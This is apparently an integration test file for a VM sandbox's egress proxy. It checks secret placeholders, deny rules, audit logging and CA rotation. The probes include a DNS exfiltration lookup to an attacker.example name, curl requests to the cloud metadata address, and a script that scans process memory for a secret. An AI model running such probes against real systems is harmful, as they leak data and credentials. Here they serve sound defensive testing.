/* The way out, end to end: guest, agent, device, supervisor, proxy, and an echo service of our own
 * on the host's loopback as the internet. What the proxy does with bytes is tests/integration/net.
 */
#include "tests/lib/vm.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "common/io.h"

struct echo {
    struct vm_process *process;
    int https, http;
    const char *ca, *log;
};

static struct echo start_echo(struct vm *vm)
{
    struct echo echo = {.log = vm_path(vm, "echo-log-%s", vm_name(vm))};
    const char *bin =
        vm_text(vm, "%.*s", (int)(strrchr(vm->bellglass, '/') - vm->bellglass), vm->bellglass);
    const char *program = vm_text(vm, "%s/../libexec/bellglass/bellglass-echo", bin);
    const char *const argv[] = {program,     "--dir", vm->folder, "--host",
                                "echo.test", "--log", echo.log,   NULL};
    echo.process = vm_start_program(vm, argv);
    vm_expect(echo.process, "\nca ");
    vm_expect(echo.process, "\n");
    char ca[4096];
    /* Its own three lines, in a fixed form. */
    assert_int_equal(sscanf(echo.process->text, "https %d\nhttp %d\nca %4095s",
                            &echo.https, /* NOLINT(cert-err34-c) */
                            &echo.http, ca),
                     3);
    echo.ca = vm_text(vm, "%s", ca);
    return echo;
}

/* A sandbox that may reach the echo service, with the secret TOKEN if it has a value. */
static const char *connected(struct vm *vm, const struct echo *echo, const char *secret)
{
    const char *https = vm_text(vm, "echo.test:%d=127.0.0.1", echo->https);
    const char *http = vm_text(vm, "echo.test:%d=127.0.0.1", echo->http);
    if (!secret)
        return vm_sandbox_with(vm, "--upstream-ca", echo->ca, "--allow", https, "--allow", http,
                               NULL);
    const char *const set[] = {"secret", "set", "TOKEN", NULL};
    assert_int_equal(vm_call_with(vm, set, secret, strlen(secret))->status, 0);
    return vm_sandbox_with(vm, "--upstream-ca", echo->ca, "--allow", https, "--allow", http,
                           "--secret", "TOKEN@echo.test", NULL);
}

/* A value that nothing else can hold by chance. */
static const char *new_secret(struct vm *vm)
{
    uint8_t bytes[12];
    char hex[2 * sizeof bytes + 1];
    bg_random(bytes, sizeof bytes);
    bg_hex(bytes, sizeof bytes, hex);
    return vm_text(vm, "bgtest-%s", hex);
}

/* The audit line of the sandbox's last decision about the host. */
static json_t *last_audit(struct vm *vm, const char *sandbox, const char *host)
{
    const char *text = vm_ok(vm, "audit", "--json", sandbox, NULL);
    json_t *last = NULL;
    for (const char *line = text; *line; line += strcspn(line, "\n") + 1) {
        json_t *one = json_loadb(line, strcspn(line, "\n"), 0, NULL);
        assert_non_null(one);
        if (strcmp(json_string_value(json_object_get(one, "host")), host) == 0) {
            json_decref(last);
            last = json_incref(one);
        }
        json_decref(one);
        if (!strchr(line, '\n'))
            break;
    }
    if (!last)
        fail_msg("no audit line about %s in:\n%s", host, text);
    return last;
}

static const char *text_of(const json_t *object, const char *field)
{
    const char *text = json_string_value(json_object_get(object, field));
    return text ? text : "";
}

static void the_guest_sends_a_placeholder_and_the_service_gets_the_secret(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *secret = new_secret(vm);
    const char *s = connected(vm, &echo, secret);
    const char *placeholder = vm_guest(vm, s, "printf %%s \"$TOKEN\"");
    assert_memory_equal(placeholder, "BELLGLASS_SECRET_", 17);
    assert_int_equal(strlen(placeholder), 17 + 64);
    const char *answer = vm_guest(vm, s,
                                  "curl -sSi -u \"user:$TOKEN\" -H \"X-Key: $TOKEN\" "
                                  "https://echo.test:%d/path?q=$TOKEN",
                                  echo.https);
    /* The service answers with what it got; the guest sees what it sent. */
    assert_non_null(strstr(answer, vm_text(vm, "x-key: %s\r\n", placeholder)));
    assert_null(strstr(answer, secret));
    const char *basic = vm_host(vm, "printf 'user:%s' | base64 -w0", secret);
    assert_null(strstr(answer, basic));
    const char *arrived = vm_read(vm, echo.log, NULL);
    assert_non_null(strstr(arrived, vm_text(vm, "x-key: %s\r\n", secret)));
    assert_non_null(strstr(arrived, vm_text(vm, "authorization: Basic %s\r\n", basic)));
    /* In the query it stays a placeholder. */
    assert_non_null(strstr(arrived, vm_text(vm, "?q=%s", placeholder)));
    json_t *line = last_audit(vm, s, "echo.test");
    assert_string_equal(text_of(line, "decision"), "allow");
    assert_string_equal(text_of(line, "path"), "/path");
    json_t *scrubbed = json_object_get(line, "scrubbed");
    assert_int_equal(json_array_size(scrubbed), 1);
    assert_string_equal(json_string_value(json_array_get(scrubbed, 0)), "TOKEN");
    char *all = vm_keep(vm, json_dumps(line, 0));
    json_decref(line);
    assert_non_null(strstr(all, "TOKEN"));
    assert_null(strstr(all, secret));
    (void)vm_stop(echo.process, SIGKILL);
}

static void plain_http_and_large_bodies_pass(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL);
    assert_non_null(
        strstr(vm_guest(vm, s, "curl -sS http://echo.test:%d/plain", echo.http), "/plain"));
    const char *sums =
        vm_guest(vm, s,
                 "head -c 5000000 /dev/urandom >body; curl -sS --data-binary @body -H "
                 "'Content-Type: x/y' https://echo.test:%d/ | tail -c 5000000 | sha256sum; "
                 "sha256sum <body",
                 echo.https);
    const char *second = strchr(sums, '\n') + 1;
    assert_memory_equal(sums, second, 64);
    /* Other tools than curl trust the sandbox's CA too. */
    assert_string_equal(vm_guest(vm, s,
                                 "python3 -c 'import urllib.request as u; "
                                 "print(u.urlopen(\"https://echo.test:%d/py\").status)'",
                                 echo.https),
                        "200\n");
    (void)vm_stop(echo.process, SIGKILL);
}

static void many_connections_at_once_pass(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL);
    assert_string_equal(
        vm_guest(vm, s,
                 "seq 40 | xargs -P 20 -I {} curl -sS -o /dev/null -w '%%{http_code}\\n' "
                 "https://echo.test:%d/{} 2>&1 | sort | uniq -c | tr -s ' '",
                 echo.https),
        " 40 200\n");
    (void)vm_stop(echo.process, SIGKILL);
}

static void what_is_not_allowed_is_refused_and_written_down(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL);
    /* HTTP and HTTPS get an answer that names host and way out. */
    static const char *const urls[] = {"http://example.com/", "https://example.com/"};
    for (size_t i = 0; i < 2; i++) {
        const char *answer = vm_guest(vm, s, "curl -sS -w '%%{http_code}' %s", urls[i]);
        assert_non_null(strstr(answer, "403"));
        assert_non_null(strstr(answer, "example.com"));
        assert_non_null(strstr(answer, "--allow"));
    }
    json_t *line = last_audit(vm, s, "example.com");
    assert_string_equal(text_of(line, "decision"), "deny");
    assert_string_equal(text_of(line, "reason"), "host-not-allowed");
    json_decref(line);
    /* Other protocols see their connection end: at once, not by a timeout of theirs. */
    assert_string_equal(vm_guest(vm, s,
                                 "python3 -c 'import socket\n"
                                 "try:\n"
                                 " s=socket.create_connection((\"example.com\",5432),timeout=100)\n"
                                 " print(\"end\" if not s.recv(1) else \"bytes\")\n"
                                 "except ConnectionResetError: print(\"end\")\n'"),
                        "end\n");
    /* The same host by another port, an address instead of its name, and the host machine itself.
     */
    (void)vm_guest(vm, s, "! curl -sS -m 60 --fail http://127.0.0.1:%d/", echo.http);
    (void)vm_guest(vm, s,
                   "! curl -sS -m 60 --fail http://10.0.2.2/; ! curl -sS -m 60 --fail "
                   "http://169.254.169.254/");
    (void)vm_stop(echo.process, SIGKILL);
}

static void names_that_are_not_allowed_are_not_looked_up(void **state)
{
    struct vm *vm = *state;
    const char *s = vm_sandbox(vm);
    /* A synthetic address, whatever the name: DNS carries nothing out. */
    const char *address =
        vm_guest(vm, s, "getent ahostsv4 secret-in-a-name.attacker.example | head -1");
    assert_memory_equal(address, "198.1", 5);
    /* UDP finds nobody. */
    assert_string_equal(
        vm_guest(
            vm, s,
            "python3 -c 'import socket\n"
            "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
            "s.settimeout(60)\n"
            "try:\n s.connect((\"9.9.9.9\",4433)); s.send(b\"x\"); s.recv(1); print(\"bytes\")\n"
            "except OSError as e: print(\"refused\" if not isinstance(e,TimeoutError) else "
            "\"late\")\n'"),
        "refused\n");
}

struct egress_wait {
    struct vm *vm;
    const char *sandbox;
    int port;
};

static bool egress_is_back(void *arg)
{
    const struct egress_wait *w = arg;
    const char *url = vm_text(w->vm, "https://echo.test:%d/", w->port);
    return vm_call(w->vm, "exec", w->sandbox, "--", "curl", "-sS", "-o", "/dev/null", url, NULL)
               ->status == 0;
}

static void a_killed_proxy_closes_the_way_out_and_comes_back(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL);
    struct egress_wait wait = {vm, s, echo.https};
    assert_true(egress_is_back(&wait));
    int proxy = vm_pid(vm, s, "proxy_pid");
    assert_int_equal(kill(proxy, SIGKILL), 0);
    vm_wait_gone(proxy);
    vm_wait("egress is back", egress_is_back, &wait);
    assert_string_equal(vm_state(vm, s), "running");
    assert_int_not_equal(vm_pid(vm, s, "proxy_pid"), proxy);
    (void)vm_stop(echo.process, SIGKILL);
}

/* Looks for the bytes in a file that cannot be mapped, such as /proc/PID/environ. */
static void assert_not_in(struct vm *vm, const char *path, const char *secret)
{
    char *bytes;
    size_t size;
    if (bg_read_file(AT_FDCWD, path, VM_CAPTURE_MAX, &bytes, &size, NULL) < 0)
        return;
    bool found = memmem(bytes, size, secret, strlen(secret)) != NULL;
    free(bytes);
    (void)vm;
    if (found)
        fail_msg("the secret is in %s", path);
}

static void the_secret_is_nowhere_but_in_the_store_and_the_proxy(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *secret = new_secret(vm);
    const char *s = connected(vm, &echo, secret);
    /* Used, but not sent back: an answer to HEAD has no body. */
    (void)vm_guest(vm, s, "curl -sSI -H \"Authorization: Bearer $TOKEN\" https://echo.test:%d/",
                   echo.https);
    assert_non_null(strstr(vm_read(vm, echo.log, NULL), secret));

    static const char *const fields[] = {"launcher_pid", "supervisor_pid", "qemu_pid", "proxy_pid"};
    for (size_t i = 0; i < 4; i++) {
        int pid = vm_pid(vm, s, fields[i]);
        assert_not_in(vm, vm_text(vm, "/proc/%d/cmdline", pid), secret);
        assert_not_in(vm, vm_text(vm, "/proc/%d/environ", pid), secret);
    }
    /* The memory of all but the proxy: the guest's is in QEMU's. */
    if (geteuid() == 0) {
        static const char script[] =
            "import sys\n"
            "pid,want=sys.argv[1],sys.argv[2].encode()\n"
            "mem=open(f'/proc/{pid}/mem','rb',0)\n"
            "for line in open(f'/proc/{pid}/maps'):\n"
            "    area,mode=line.split()[:2]\n"
            "    if mode[0]!='r' or '[v' in line: continue\n"
            "    at,end=(int(x,16) for x in area.split('-'))\n"
            "    if end-at>1<<30: continue\n" /* ASan's shadow: reading it fills page tables */
            "    tail=b''\n"
            "    while at<end:\n"
            "        try: mem.seek(at); part=mem.read(min(end-at,1<<22))\n"
            "        except OSError: break\n"
            "        if not part: break\n"
            "        if want in tail+part: sys.exit(f'the secret is at {at:x} of process {pid}')\n"
            "        tail=part[-64:]; at+=len(part)\n";
        const char *scan = vm_path(vm, "scan.py");
        vm_write(scan, script, sizeof script - 1);
        for (size_t i = 0; i < 3; i++)
            (void)vm_host(vm, "python3 %s %d %s", scan, vm_pid(vm, s, fields[i]), secret);
    }
    char where[4096] = "";
    assert_int_equal(unlink(echo.log), 0); /* what the service knows, it may */
    if (vm_tree_holds(vm_text(vm, "%s/state", vm->home), secret, strlen(secret), where,
                      sizeof where) ||
        vm_tree_holds(vm_text(vm, "%s/data/snapshots", vm->home), secret, strlen(secret), where,
                      sizeof where) ||
        vm_tree_holds(vm_text(vm, "%s/data/ca", vm->home), secret, strlen(secret), where,
                      sizeof where))
        fail_msg("the secret is in %s", where);
    assert_null(strstr(vm_ok(vm, "logs", s, NULL), secret));
    assert_null(strstr(vm_ok(vm, "audit", s, NULL), secret));
    assert_null(strstr(vm_ok(vm, "inspect", s, NULL), secret));
    assert_null(strstr(vm_ok(vm, "secret", "ls", NULL), secret));
    (void)vm_stop(echo.process, SIGKILL);
}

static void each_sandbox_has_a_placeholder_of_its_own(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *secret = new_secret(vm);
    const char *a = connected(vm, &echo, secret), *b = connected(vm, &echo, secret);
    const char *of_a = vm_guest(vm, a, "printf %%s \"$TOKEN\"");
    assert_string_not_equal(of_a, vm_guest(vm, b, "printf %%s \"$TOKEN\""));
    /* The other's placeholder is worth nothing. */
    (void)vm_guest(vm, b, "curl -sSI -H 'Authorization: Bearer %s' https://echo.test:%d/ || true",
                   of_a, echo.https);
    assert_null(strstr(vm_read(vm, echo.log, NULL), secret));
    (void)vm_stop(echo.process, SIGKILL);
}

static const char *write_policy(struct vm *vm, const struct echo *echo, const char *methods)
{
    const char *path = vm_path(vm, "%s-policy.yaml", vm_name(vm));
    const char *text = vm_text(vm,
                               "network:\n"
                               "  rules:\n"
                               "    - allow: echo.test:%d\n"
                               "      methods: [%s]\n"
                               "      paths: [/open/**]\n"
                               "      addresses: 127.0.0.1\n"
                               "secrets:\n"
                               "  TOKEN:\n"
                               "    - host: echo.test\n"
                               "      in: query\n",
                               echo->https, methods);
    vm_write(path, text, strlen(text));
    return path;
}

/* The rules change while it runs, and so does a secret. */
static void a_policy_rules_requests_and_can_be_replaced(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *secret = new_secret(vm), *next = new_secret(vm);
    const char *const set[] = {"secret", "set", "TOKEN", NULL};
    assert_int_equal(vm_call_with(vm, set, secret, strlen(secret))->status, 0);
    const char *s = vm_sandbox_with(vm, "--upstream-ca", echo.ca, "--policy",
                                    write_policy(vm, &echo, "GET"), NULL);
    const char *get = vm_text(vm, "curl -sS \"https://echo.test:%d/open/x?k=$TOKEN\"", echo.https);
    const char *post = vm_text(vm, "%s -d x", get);
    assert_non_null(strstr(vm_guest(vm, s, "%s", get), "GET /open/x?k=BELLGLASS_SECRET_"));
    assert_non_null(strstr(vm_read(vm, echo.log, NULL), vm_text(vm, "?k=%s HTTP", secret)));
    assert_non_null(strstr(vm_guest(vm, s, "%s", post), "none of those that this sandbox's rules"));
    assert_non_null(
        strstr(vm_guest(vm, s, "curl -sS https://echo.test:%d/open/../x --path-as-is", echo.https),
               "more than one way"));

    (void)vm_ok(vm, "policy", "apply", s, write_policy(vm, &echo, "POST"), NULL);
    assert_non_null(strstr(vm_guest(vm, s, "%s", post), "POST /open/x?k=BELLGLASS_SECRET_"));
    assert_non_null(strstr(vm_guest(vm, s, "%s", get), "none of those that this sandbox's rules"));
    assert_non_null(strstr(vm_ok(vm, "policy", "show", s, NULL), "POST"));

    const char *learnt = vm_ok(vm, "policy", "learn", s, NULL);
    assert_non_null(strstr(learnt, vm_text(vm, "- allow: 'echo.test:%d'\n", echo.https)));
    assert_non_null(strstr(learnt, "methods: [GET, POST]"));
    assert_non_null(strstr(learnt, "paths: ['/open/x']"));

    /* A new value counts from the next request on. */
    assert_int_equal(vm_call_with(vm, set, next, strlen(next))->status, 0);
    assert_null(strstr(vm_read(vm, echo.log, NULL), next));
    (void)vm_guest(vm, s, "%s", post);
    assert_non_null(strstr(vm_read(vm, echo.log, NULL), vm_text(vm, "?k=%s HTTP", next)));
    /* So does that there is none any more. */
    (void)vm_ok(vm, "secret", "rm", "TOKEN", NULL);
    assert_non_null(strstr(vm_guest(vm, s, "%s", post), "secret TOKEN has no value"));

    vm_refused(vm, "policy.yaml:4|'get'|capitals", "policy", "apply", s,
               write_policy(vm, &echo, "get"), NULL);
    (void)vm_stop(echo.process, SIGKILL);
}

static void an_upstream_that_is_not_trusted_is_not_reached(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s =
        vm_sandbox_with(vm, "--allow", vm_text(vm, "echo.test:%d=127.0.0.1", echo.https), NULL);
    const char *answer =
        vm_guest(vm, s, "curl -sS -w '%%{http_code}' https://echo.test:%d/", echo.https);
    assert_non_null(strstr(answer, "502"));
    json_t *line = last_audit(vm, s, "echo.test");
    assert_string_equal(text_of(line, "reason"), "upstream-certificate");
    json_decref(line);
    (void)vm_stop(echo.process, SIGKILL);
}

/* A request has left its line in a new file. */
static bool audit_is_turned_over(void *arg)
{
    struct egress_wait *wait = arg;
    const char *dir = vm_sandbox_dir(wait->vm, wait->sandbox);
    const char *latest = vm_text(wait->vm, "%s/audit.ndjson.1", dir);
    size_t size = 0;
    if (!egress_is_back(wait) || access(latest, F_OK) < 0)
        return false;
    (void)vm_read(wait->vm, vm_text(wait->vm, "%s/audit.ndjson", dir), &size);
    return size > 0;
}

static void a_full_audit_log_is_turned_over(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL), *dir = vm_sandbox_dir(vm, s);
    struct egress_wait wait = {vm, s, echo.https};
    assert_true(egress_is_back(&wait));
    int proxy = vm_pid(vm, s, "proxy_pid");
    (void)vm_host(vm, "truncate -s 64M %s/audit.ndjson", dir);
    vm_wait("the audit log is turned over", audit_is_turned_over, &wait);
    assert_int_equal(vm_pid(vm, s, "proxy_pid"), proxy);
    json_t *line = last_audit(vm, s, "echo.test");
    assert_string_equal(text_of(line, "decision"), "allow");
    json_decref(line);
    (void)vm_ok(vm, "rm", "-f", s, NULL);
    assert_int_equal(access(dir, F_OK), -1);
    (void)vm_stop(echo.process, SIGKILL);
}

/* The last one: after it new sandboxes of this program would need another golden snapshot. */
static void a_new_ca_waits_for_the_next_start(void **state)
{
    struct vm *vm = *state;
    struct echo echo = start_echo(vm);
    const char *s = connected(vm, &echo, NULL);
    struct egress_wait wait = {vm, s, echo.https};
    assert_true(egress_is_back(&wait));
    const char *old = vm_ok(vm, "ca", "show", "--pem", NULL);
    assert_non_null(strstr(vm_ok(vm, "ca", "rotate", NULL), s));
    const char *new = vm_ok(vm, "ca", "show", "--pem", NULL);
    assert_string_not_equal(old, new);
    assert_true(egress_is_back(&wait));
    int proxy = vm_pid(vm, s, "proxy_pid");
    assert_int_equal(kill(proxy, SIGKILL), 0);
    vm_wait_gone(proxy);
    vm_wait("egress is back", egress_is_back, &wait);
    (void)vm_ok(vm, "stop", s, NULL);
    (void)vm_ok(vm, "start", s, NULL);
    assert_true(egress_is_back(&wait));
    const char *bundle = vm_guest(vm, s, "cat /etc/ssl/certs/ca-certificates.crt");
    assert_non_null(strstr(bundle, new));
    assert_null(strstr(bundle, old));
    (void)vm_stop(echo.process, SIGKILL);
}

VM_MAIN(VM_NEEDS_VM,
        cmocka_unit_test(the_guest_sends_a_placeholder_and_the_service_gets_the_secret),
        cmocka_unit_test(plain_http_and_large_bodies_pass),
        cmocka_unit_test(many_connections_at_once_pass),
        cmocka_unit_test(what_is_not_allowed_is_refused_and_written_down),
        cmocka_unit_test(names_that_are_not_allowed_are_not_looked_up),
        cmocka_unit_test(a_killed_proxy_closes_the_way_out_and_comes_back),
        cmocka_unit_test(the_secret_is_nowhere_but_in_the_store_and_the_proxy),
        cmocka_unit_test(each_sandbox_has_a_placeholder_of_its_own),
        cmocka_unit_test(a_policy_rules_requests_and_can_be_replaced),
        cmocka_unit_test(an_upstream_that_is_not_trusted_is_not_reached),
        cmocka_unit_test(a_full_audit_log_is_turned_over),
        cmocka_unit_test(a_new_ca_waits_for_the_next_start))
